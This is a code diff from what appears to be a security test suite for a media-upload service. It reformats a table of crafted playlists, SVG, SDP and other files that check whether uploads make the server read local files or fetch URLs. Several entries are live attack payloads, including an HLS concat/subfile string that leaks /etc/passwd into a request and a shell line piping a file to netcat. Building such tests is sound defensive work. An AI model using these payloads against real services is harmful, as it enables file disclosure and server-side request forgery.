@@ -77,7 +77,11 @@ _LISTS: dict[str, tuple[Callable[[Around], str], str, str]] = {
     "hls with a map elsewhere": (lambda a: _hls(_http(a), f'#EXT-X-MAP:URI="{a.canary}"\n'), "nested", "list.m3u8"),
     "hls by a protocol in a protocol": (lambda a: _hls(f"subfile,,start,0,end,0,,:{a.canary}"), "nested", "list.m3u8"),
     "hls of two files glued": (lambda a: _hls(f"concat:{a.canary}|{_http(a)}"), "nested", "list.m3u8"),
-    "hls that leaks a file into an address": (lambda a: _hls(f"concat:{_http(a)}|subfile,,start,0,end,9,,:/etc/passwd"), "nested", "a.m3u8"),
+    "hls that leaks a file into an address": (
+        lambda a: _hls(f"concat:{_http(a)}|subfile,,start,0,end,9,,:/etc/passwd"),
+        "nested",
+        "a.m3u8",
+    ),
     "hls behind a byte order mark": (lambda a: "\ufeff" + _hls(str(a.canary)), "nested", "list.m3u8"),
     "hls behind empty lines": (lambda a: "\n\n " + _hls(str(a.canary)), "nested", "list.m3u8"),
     "hls named as avi": (lambda a: _hls(str(a.canary)), "nested", "upload.avi"),
@@ -88,7 +92,9 @@ _LISTS: dict[str, tuple[Callable[[Around], str], str, str]] = {
     "dash over http": (lambda a: _dash(_http(a, "a.mp4")), "nested", "upload.mp4"),
     "dash behind a comment": (lambda a: "<!-- x -->" + _dash(_http(a)), "nested", "upload.mpd"),
     "an imf list": (
-        lambda a: f'<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{a.canary}</Id></CompositionPlaylist>',
+        lambda a: (
+            f'<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{a.canary}</Id></CompositionPlaylist>'
+        ),
         "nested",
         "cpl.xml",
     ),
@@ -99,8 +105,16 @@ _LISTS: dict[str, tuple[Callable[[Around], str], str, str]] = {
     ),
     "smil": (lambda a: f'<smil><body><video src="{_http(a)}"/></body></smil>', "nested", "upload.smil"),
     "asx": (lambda a: f'<asx version="3.0"><entry><ref href="{_http(a)}"/></entry></asx>', "nested", "upload.asx"),
-    "xspf": (lambda a: f'<?xml version="1.0"?><playlist><trackList><track><location>{_http(a)}</location></track></trackList></playlist>', "nested", "a.xspf"),
-    "an svg that shows a file": (lambda a: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{a.canary}"/></svg>', "picture nested", "upload.svg"),
+    "xspf": (
+        lambda a: f'<?xml version="1.0"?><playlist><trackList><track><location>{_http(a)}</location></track></trackList></playlist>',
+        "nested",
+        "a.xspf",
+    ),
+    "an svg that shows a file": (
+        lambda a: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{a.canary}"/></svg>',
+        "picture nested",
+        "upload.svg",
+    ),
     "a session over udp": (lambda a: _sdp(a), "nested", "upload.sdp"),
     "a session named as mp4": (lambda a: _sdp(a), "nested", "upload.mp4"),
     "a session of a transport stream": (lambda a: _sdp(a, "RTP/AVP 33"), "nested", "upload.sdp"),
@@ -113,7 +127,7 @@ _LISTS: dict[str, tuple[Callable[[Around], str], str, str]] = {
     "a lavfi graph": (lambda a: f"movie={a.canary}", "format", "upload.mp4"),
     "a shell script": (lambda a: f"#!/bin/sh\ncat {a.canary} | nc 127.0.0.1 {a.http}\n", "format", "upload.sh"),
     "a pattern of pictures": (lambda a: "img%03d.png\n", "format", "img%03d.mp4"),
-}  # fmt: skip
+}
 
 INPUTS = [
     *(Input(name, _text(write), wanted, stored_as) for name, (write, wanted, stored_as) in _LISTS.items()),
